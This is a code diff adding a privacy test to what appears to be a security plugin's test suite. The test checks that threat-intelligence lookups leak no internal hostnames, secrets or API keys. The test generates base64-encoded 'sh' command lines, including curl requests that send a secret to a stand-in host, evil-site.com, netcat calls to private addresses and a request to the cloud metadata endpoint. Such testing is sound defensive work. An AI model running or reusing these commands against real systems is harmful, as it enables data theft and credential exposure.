@@ -1,13 +1,18 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """What is inside is never asked about, and keys go nowhere else."""
 
+import base64
 import os
 import random
+import re
+import signal
+import socket
 import subprocess
 import time
 
 from asking import KEY, ask, write_config
-from server import Rogue
+from late import Pair, tidily
+from server import Capture, Rogue
 from suite import AUHUNT, ROOT, environment
 
 SECRET = "s3cr3t"
@@ -51,6 +56,102 @@ def nothing_inside(nginx):
         for word in words:
             if word in line.replace(".evil-site.com", ""):
                 yield "asked: %s" % line
+
+
+# As many at a time as the engine has questions for.
+COMMANDS, CHUNK = 10000, 80
+# What a request to outside must not have, but for the provider's own name.
+INSIDE = re.compile(
+    rb"s3cr3t|\.internal|\.corp|\.local\b|\.lan\b|(?<![0-9.])(?:10|127)\.\d+\."
+    rb"|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|100\.(?:6[4-9]|[7-9]\d|1[01]\d|"
+    rb"12[0-7])\.|169\.254\.|f[cd][0-9a-f]{2}(?::|%3a)|fe80(?::|%3a)", re.I)
+
+
+def secretive(n):
+    """An argv that hides one address outside among much that is inside."""
+    a, b = n >> 8, n & 255
+    url = "http://user:%s@c%d.evil-site.com/x?token=%s" if n % 2 else \
+        "http://c%.0s%d.evil-site.com/x?id=%s"
+    words = ["curl %s#%s" % (url % (SECRET, n, SECRET), SECRET),
+             "psql -h db%d.prod.internal" % n, "ssh root@host%d.corp" % n,
+             "ping printer%d.local" % n, "nc 10.%d.%d.1 443" % (a, b),
+             "curl http://10.1.%d.2:8080/%s" % (b, SECRET),
+             "nc 172.%d.0.9 80" % (16 + n % 16), "nc 192.168.%d.7 80" % b,
+             "curl http://build%d.lan/%s" % (n, SECRET),
+             "nc 100.%d.1.1 1" % (64 + n % 64), "nc fd00::%x 1" % n,
+             "curl http://169.254.169.254/%s" % SECRET,
+             "nc %s 1" % socket.gethostname()]
+    # The one outside is the first, the last, and all between.
+    words.insert(n % len(words), words.pop(0))
+    return [b"sh", b"-c", b"echo %s | base64 -d | sh" % base64.b64encode(
+        "; ".join(words).encode())]
+
+
+def files_of(pid):
+    """What is to be read of a process, but for its memory, which only root
+    reaches while it lives."""
+    for name in ("auxv", "cgroup", "cmdline", "comm", "environ", "io", "limits",
+                 "maps", "mountinfo", "sched", "smaps", "stack", "stat",
+                 "status", "wchan"):
+        try:
+            with open("/proc/%d/%s" % (pid, name), "rb") as file:
+                yield name, file.read()
+        except OSError:
+            continue
+
+
+def count(path, what):
+    """Lines of a file that have it. The file is large: what this process keeps
+    in memory is counted as that of those it starts."""
+    with open(path, "rb") as file:
+        return sum(what in line for line in file)
+
+
+def capture(nginx):
+    """Ten thousand commands full of what is inside: the requests that come of
+    them have none of it, and the key is in them and nowhere else."""
+    outside = Capture(nginx.dir, rb"hostname/c(\d+)\.evil-site")
+    pair = Pair(nginx, ["otx key={file} types=url,dns,ipv4,ipv6 per_minute=0 "
+                        "url=https://localhost:%d" % outside.port],
+                state=nginx.path("capture.db"), core=True)
+    # Of each the URL, without what nobody is to know.
+    for n in range(0, COMMANDS, CHUNK):
+        pair.give(*map(secretive, range(n, n + CHUNK)))
+        pair.wait(lambda: len(outside.found) >= n + CHUNK, "requests")
+    lines = pair.wait(lambda: count(pair.log, b'"evt":"exec"') >= COMMANDS and
+                      count(pair.log, b'"evt":"exec"'), "lines")
+    urls = [head for head in outside.heads if b"evil-site.com%2Fx/" in head]
+    if len(outside.found) != COMMANDS or lines != COMMANDS:
+        yield "%d lines, %d asked about" % (lines, len(outside.found))
+    if not COMMANDS * 0.4 < len(urls):
+        yield "%d URLs" % len(urls)
+    for head in outside.heads:
+        found = INSIDE.search(re.sub(rb"\r\nHost: localhost:\d+", b"", head))
+        if found:
+            yield "%r: %r" % (found[0], head)
+        if head.count(KEY.encode()) != 1:
+            yield "the key: %r" % head
+    if outside.names - {"localhost"}:
+        yield "names: %s" % outside.names
+    pair.plugin.send_signal(signal.SIGUSR1)
+    pair.wait(lambda: count(pair.log, b'"evt":"status"'), "status line")
+    for process in (pair.plugin, pair.intel):
+        for name, text in files_of(process.pid):
+            if KEY.encode() in text:
+                yield "the key is in %s of %s" % (name, process.args[0])
+    # With a limit that allows cores it leaves none.
+    os.kill(pair.intel.pid, signal.SIGSEGV)
+    status = os.waitpid(pair.intel.pid, 0)[1]
+    if not os.WIFSIGNALED(status) or os.WCOREDUMP(status):
+        yield "a core: status %#x" % status
+    said = pair.intel.stderr.read()
+    pair.intel.stderr.close()
+    pair.intel = None
+    pair.end()
+    outside.stop()
+    if KEY.encode() in said or count(pair.log, KEY.encode()) or count(
+            nginx.path("capture.db"), KEY.encode()):
+        yield "the key is in a log, a line or the state"
 
 
 def rows(nginx):
@@ -114,6 +215,7 @@ def key_of_everybody(nginx):
 
 def cases():
     yield "privacy/nothing-inside", nothing_inside
+    yield "privacy/capture", tidily(capture)
     yield "privacy/rows", rows
     yield "privacy/key-stays", key_stays
     yield "privacy/key-of-everybody", key_of_everybody
